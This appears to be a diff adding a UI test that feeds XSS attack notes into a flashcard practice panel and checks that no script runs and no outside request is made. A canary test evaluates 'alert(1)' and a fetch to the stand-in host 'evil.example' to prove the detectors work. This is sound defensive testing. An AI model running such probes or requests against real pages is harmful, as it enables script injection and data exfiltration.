@@ -1,0 +1,81 @@
+import assert from 'node:assert/strict';
+import { writeFile } from 'node:fs/promises';
+import path from 'node:path';
+import type { FrameLocator, Page } from 'playwright-core';
+import { attackNote } from '../xss/payloads';
+import { Workbench } from './workbench';
+
+const attacks = attackNote();
+
+describe('Notes that are written to break out of the practice panel', () => {
+  const ran: string[] = [];
+  const asked: string[] = [];
+  let workbench: Workbench;
+  let panel: FrameLocator;
+
+  before(async () => {
+    workbench = await Workbench.open({ folder: 'test/ui/cards' });
+    listen(workbench.page);
+    await writeFile(path.join(workbench.folder, 'attacks.md'), attacks.text);
+    await (await workbench.questions()).getByText('attacks.md').waitFor();
+    await workbench.openFile('attacks.md');
+  });
+
+  after(() => workbench.close());
+
+  it('run nothing and ask for nothing, as questions, as what belongs to them, as answers', async function () {
+    this.timeout(180_000);
+    const { keyboard } = workbench.page;
+    await workbench.run('Rehearse: Practice');
+    panel = workbench.panel();
+    const { cards } = attacks;
+    for (let card = 1; card <= cards; card += 1) {
+      await panel.getByText(`Question ${card} of ${cards}`).waitFor();
+      await panel.locator('#body').getByText('Before.').waitFor();
+      await keyboard.press('Space');
+      await panel.locator('#answer').getByText('Behind.').waitFor();
+      if (card === 1) await workbench.screenshot('attacks');
+      await touch(panel);
+      assert.deepEqual({ ran, asked }, { ran: [], asked: [] }, `card ${card}`);
+      await keyboard.press('KeyN');
+    }
+    await panel.getByText(`You went through ${cards} questions.`).waitFor();
+    assert.deepEqual({ ran, asked }, { ran: [], asked: [] });
+  });
+
+  it('would be noticed if they did', async () => {
+    await workbench.page.evaluate('alert(1)');
+    await workbench.page.evaluate('fetch("https://evil.example/x").catch(() => undefined)');
+    assert.deepEqual({ ran, asked }, { ran: ['alert: 1'], asked: ['https://evil.example/x'] });
+  });
+
+  function listen(page: Page): void {
+    page.on('dialog', (dialog) => {
+      ran.push(`${dialog.type()}: ${dialog.message()}`);
+      void dialog.dismiss();
+    });
+    page.on('popup', (popup) => asked.push(popup.url()));
+    page.on('request', (request) => {
+      if (!isOurs(request.url())) asked.push(request.url());
+    });
+    page.on('console', (message) => {
+      if (/Content Security Policy/.test(message.text()) && /evil\.example|inline/.test(message.text())) asked.push(message.text());
+    });
+  }
+});
+
+/** Moves over what could listen, as a person does; what has the focus lets go of it. */
+async function touch(panel: FrameLocator): Promise<void> {
+  await panel.locator('#answer').evaluate((answer) => {
+    for (const element of answer.querySelectorAll('*')) {
+      for (const type of ['mouseover', 'mouseenter', 'pointerover', 'focus', 'blur', 'error', 'load', 'toggle', 'input', 'change', 'submit', 'keydown']) {
+        element.dispatchEvent(new Event(type));
+      }
+    }
+  });
+}
+
+function isOurs(url: string): boolean {
+  const { protocol, hostname } = new URL(url);
+  return ['data:', 'blob:'].includes(protocol) || hostname === '127.0.0.1' || hostname === 'localhost' || hostname.endsWith('.vscode-cdn.net');
+}
